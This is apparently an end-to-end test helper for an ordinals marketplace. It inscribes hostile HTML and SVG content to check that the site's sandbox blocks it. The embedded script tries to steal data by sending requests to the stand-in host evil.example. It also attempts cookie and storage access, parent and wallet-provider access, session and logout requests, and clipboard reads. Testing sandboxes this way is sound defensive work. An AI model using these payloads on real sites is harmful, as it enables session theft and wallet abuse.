import { randomUUID } from 'node:crypto'
import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { loadCollections } from '@ordbook/market/collections/load.ts'
import type { LocalWallet } from '@ordbook/sdk/wallet.ts'
import type { Page } from 'playwright-core'
import type { TestMarket } from '../../../e2e/support/market.ts'

/** Attempts forbidden actions and records each result in its document. */
const HTML = `<!doctype html><title>hostile</title><pre id="out"></pre><script>
const out = {}
const tell = () => { document.getElementById('out').textContent = JSON.stringify(out) }
const attempt = async (name, work) => {
  out[name] = 'trying'
  try { out[name] = (await work()) ? 'SUCCEEDED' : 'refused' } catch { out[name] = 'refused' }
  tell()
}
const got = async (url, init) => (await fetch(url, init)).status > 0
;(async () => {
  out.ran = 'yes'
  await attempt('cookies', () => document.cookie !== undefined && (document.cookie = 'a=b', document.cookie.includes('a=b')))
  await attempt('localStorage', () => (localStorage.setItem('evil', '1'), localStorage.getItem('evil') === '1'))
  await attempt('sessionStorage', () => (sessionStorage.setItem('evil', '1'), true))
  await attempt('indexedDB', () => new Promise((resolve) => {
    const request = indexedDB.open('evil')
    request.onsuccess = () => resolve(true)
    request.onerror = () => resolve(false)
  }))
  await attempt('caches', async () => Boolean(await caches.open('evil')))
  await attempt('parentDocument', () => Boolean(parent !== window && parent.document.body))
  await attempt('parentVariable', () => parent !== window && (parent.owned = true, parent.owned))
  await attempt('topStorage', () => parent !== window && Boolean(top.localStorage))
  await attempt('topNavigation', async () => {
    if (top === window) return false
    top.location = 'https://evil.example/'
    await new Promise((done) => setTimeout(done, 300))
    return false
  })
  await attempt('topReplace', () => top !== window && (top.location.replace('/content/evil'), false))
  await attempt('popup', () => Boolean(window.open('/')))
  await attempt('alert', () => (alert('hello'), false))
  await attempt('form', async () => {
    const form = document.createElement('form')
    form.action = '/web/v1/session/end'
    form.method = 'post'
    document.body.append(form)
    form.submit()
    await new Promise((done) => setTimeout(done, 200))
    return false
  })
  await attempt('network', () => got('https://evil.example/steal', { mode: 'no-cors' }))
  await attempt('beacon', () => navigator.sendBeacon('https://evil.example/steal', 'x') && false)
  await attempt('socket', () => new Promise((resolve, reject) => {
    const socket = new WebSocket('wss://evil.example/')
    socket.onopen = () => resolve(true)
    socket.onerror = () => resolve(false)
  }))
  await attempt('image', () => new Promise((resolve) => {
    const image = new Image()
    image.onload = () => resolve(true)
    image.onerror = () => resolve(false)
    image.src = 'https://evil.example/steal.png'
  }))
  await attempt('session', async () => (await fetch('/web/v1/session', { credentials: 'include' })).ok)
  await attempt('writes', async () => (await fetch('/web/v1/session/end', { method: 'POST', credentials: 'include' })).ok)
  await attempt('api', async () => (await fetch('/api/v1/me', { credentials: 'include' })).ok)
  for (const path of ['/api/v1/listings', '/api/v1/openapi.json', '/web/v1/collections', '/events', '/status', '/metrics', '/keys', '/openapi.json', '/docs/listings.md', '/content/../status', '/r/../status', '/blockheight/../status'])
    await attempt('fetch ' + path, () => got(path))
  await attempt('challenge', () => got('/api/v1/auth/challenge', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' }))
  await attempt('no-cors', () => got('/status', { mode: 'no-cors' }))
  await attempt('xhr', () => new Promise((resolve) => {
    const request = new XMLHttpRequest()
    request.onloadend = () => resolve(request.status > 0)
    request.open('GET', '/status')
    request.send()
  }))
  await attempt('events', () => new Promise((resolve) => {
    const events = new EventSource('/events')
    events.onopen = () => resolve(true)
    events.onerror = () => resolve(false)
    setTimeout(() => resolve(false), 1000)
  }))
  await attempt('worker', () => new Promise((resolve) => {
    const code = "fetch('" + location.origin + "/status').then(() => postMessage(true), () => postMessage(false))"
    const worker = new Worker(URL.createObjectURL(new Blob([code])))
    worker.onmessage = ({ data }) => resolve(data)
    worker.onerror = () => resolve(false)
  }))
  const here = location.origin === 'null' ? new URL(location.href).origin : location.origin
  const load = (tag, members) => new Promise((resolve) => {
    const element = Object.assign(document.createElement(tag), members)
    element.onload = () => resolve(true)
    element.onerror = () => resolve(false)
    document.body.append(element)
    setTimeout(() => resolve(false), 500)
  })
  await attempt('script', () => load('script', { src: here + '/status?script' }))
  await attempt('stylesheet', () => load('link', { rel: 'stylesheet', href: here + '/status?style' }))
  await attempt('prefetch', () => load('link', { rel: 'prefetch', href: here + '/status?prefetch' }))
  await attempt('preload', () => load('link', { rel: 'preload', as: 'fetch', href: here + '/status?preload' }))
  await attempt('modulepreload', () => load('link', { rel: 'modulepreload', href: here + '/status?module' }))
  await attempt('rules', () => {
    const rules = document.createElement('script')
    rules.type = 'speculationrules'
    rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['/status?rules'], eagerness: 'immediate' }] })
    document.body.append(rules)
    return new Promise((resolve) => setTimeout(() => resolve(false), 500))
  })
  await attempt('dataFrame', () => {
    const frame = document.createElement('iframe')
    frame.src = 'data:text/html,<script>fetch("' + here + '/status?data", { mode: "no-cors" })</' + 'script>'
    document.body.append(frame)
    return new Promise((resolve) => setTimeout(() => resolve(false), 500))
  })
  await attempt('ping', () => {
    const link = Object.assign(document.createElement('a'), { href: '#here', ping: here + '/status?ping' })
    document.body.append(link)
    link.click()
    return new Promise((resolve) => setTimeout(() => resolve(false), 200))
  })
  await attempt('frame', () => new Promise((resolve) => {
    const frame = document.createElement('iframe')
    frame.src = '/wallet'
    frame.onload = () => { try { resolve(Boolean(frame.contentDocument.body.textContent)) } catch { resolve(false) } }
    document.body.append(frame)
    setTimeout(() => resolve(false), 500)
  }))
  await attempt('serviceWorker', async () => Boolean(await navigator.serviceWorker.register('/content/evil')))
  await attempt('camera', async () => Boolean(await navigator.mediaDevices.getUserMedia({ video: true })))
  await attempt('clipboard', async () => Boolean(await navigator.clipboard.readText()))
  await attempt('wallet', () => Boolean(parent !== window && parent.XverseProviders))
  await attempt('message', () => (parent.postMessage({ type: 'sign' }, '*'), false))
  out.recursion = 'trying'
  try {
    const height = await (await fetch('/r/blockheight')).json()
    const own = await (await fetch(location.pathname)).text()
    out.recursion = height > 0 && own.includes('hostile') ? 'works' : 'does not work'
  } catch (error) { out.recursion = String(error) }
  out.done = 'refused'
  tell()
})()
</script>`
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect width="10" height="10" fill="#934"/>
<script>try { parent.owned = true } catch {} ; window.owned = true</script></svg>`

const LEAVES = `<!doctype html><title>leaves</title><p>leaves</p><script>
setTimeout(() => { location.href = '/status?left' }, 500)
</script>`
const BODIES = { html: HTML, svg: SVG, leaves: LEAVES }

export async function hostileCollection(
  market: TestMarket,
  wallet: LocalWallet,
  kind: keyof typeof BODIES = 'html',
): Promise<{ slug: string; id: string }> {
  const slug = `hostile-${randomUUID().slice(0, 8)}`
  const contentType = kind === 'svg' ? 'image/svg+xml' : 'text/html;charset=utf-8'
  const body = new TextEncoder().encode(BODIES[kind])
  const [id] = await market.regtest.inscribe([
    { inscription: { contentType, body }, owner: wallet.ordinalsScript, postageSats: 10_000 },
  ])
  const folder = join(market.dataDir, slug)
  mkdirSync(join(folder, slug), { recursive: true })
  writeFileSync(join(folder, slug, 'meta.json'), JSON.stringify({ name: slug, slug }))
  writeFileSync(
    join(folder, slug, 'inscriptions.json'),
    JSON.stringify([{ id, meta: { name: `${slug} #0`, attributes: [] } }]),
  )
  await loadCollections(market.sql, folder, { now: new Date() })
  await market.server.sync()
  return { slug, id: id! }
}

/** Waits for the results of all attempts. `id` selects an inscription's frame; null: the page itself. */
export async function reportsOf(page: Page, id: string | null): Promise<Record<string, string>> {
  const place = id === null ? page.locator('#out') : page.frameLocator(`iframe[src*="${id}"]`).locator('#out')
  await place.filter({ hasText: '"done"' }).waitFor({ timeout: 60_000 })
  return JSON.parse((await place.textContent())!)
}
